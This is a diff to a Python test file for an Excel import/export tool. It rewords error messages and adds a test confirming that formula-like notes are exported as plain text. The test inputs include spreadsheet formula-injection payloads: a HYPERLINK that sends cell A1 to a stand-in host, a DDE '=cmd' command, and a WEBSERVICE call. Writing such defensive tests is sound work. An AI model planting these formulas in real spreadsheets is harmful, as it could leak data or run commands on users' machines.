@@ -4,6 +4,7 @@ round trips, the PortalRB document."""
 from __future__ import annotations
 
 import json
+import re
 import shutil
 import zipfile
 from fractions import Fraction
@@ -144,11 +145,11 @@ def _bad_files(tmp_path: Path) -> dict[str, Path]:
     with zipfile.ZipFile(damaged, "w") as z:
         z.writestr("hello.txt", "hi")
     return {
-        "not an Excel workbook": text,
-        "has no sheet 'LKE ZI'": other,
+        "is a text file (such as CSV), not an Excel workbook": text,
+        "has no sheet that looks like the LKE ZI": other,
         "protected with a password": locked,
-        "not an Excel workbook (.xlsx)": corrupt,
-        "damaged": damaged,
+        "is damaged": corrupt,
+        "a ZIP archive but not a workbook": damaged,
     }
 
 
@@ -205,3 +206,35 @@ def test_unknown_unit_exits_2(ws_folder: Path, tmp_path: Path) -> None:
         zi("export-portalrb", "--workspace", str(ws_folder), "--unit", "NOPE", "-o", str(out)) == 2
     )
     assert not out.exists()
+
+
+@pytest.mark.parametrize(
+    "note",
+    ['=HYPERLINK("http://example.invalid/?"&A1,"klik")', "=1+1", "=cmd|' /C calc'!A0",
+     '=WEBSERVICE("http://example.invalid/")'],
+)  # fmt: skip
+def test_notes_that_look_like_formulas_are_written_as_text(
+    ws_folder: Path, definition: Definition, tmp_path: Path, note: str
+) -> None:
+    fill_workspace(ws_folder, definition)
+    with Workspace.open(ws_folder, create=False, actor="tester") as ws:
+        notes = {"A.I.1.i.a": note, "A.I.2.i.b": f"catatan\n\nBukti dukung: {note}"}
+        plan = ImportPlan(Path("-"), LKE, answers=answers_of(definition, 0),  # type: ignore[arg-type]
+                          notes=notes)  # fmt: skip
+        interop.apply_excel_import(ws, UNIT.code, "unit", plan)
+    before = state(ws_folder)
+    out = tmp_path / "lke.xlsx"
+    assert zi("export-excel", "--workspace", str(ws_folder), "--unit", UNIT.code,
+              "-o", str(out)) == 0  # fmt: skip
+    sheet = load_workbook(out)["LKE ZI"]
+    o8, p_row = sheet["O8"], definition.items["A.I.2.i.b"].excel_row
+    assert o8.value == note and o8.data_type == "s" and o8.quotePrefix  # text, never a formula
+    assert sheet.cell(p_row, 16).value == note and sheet.cell(p_row, 16).data_type == "s"
+    with zipfile.ZipFile(out) as archive:  # no formula cell in the O and P columns
+        xml = archive.read("xl/worksheets/sheet3.xml").decode()
+    assert re.search(r'<c r="O8"[^>]* t="inlineStr"><is><t>=', xml)  # a text cell
+    assert not re.search(r"<f>[^<]*(HYPERLINK|WEBSERVICE|1\+1|cmd)", xml)
+    for tier in TIERS:  # and read back: the same notes
+        assert zi("import-excel", str(out), "--workspace", str(ws_folder), "--unit", UNIT.code,
+                  "--tier", tier, "--yes") == 0  # fmt: skip
+    assert state(ws_folder) == before
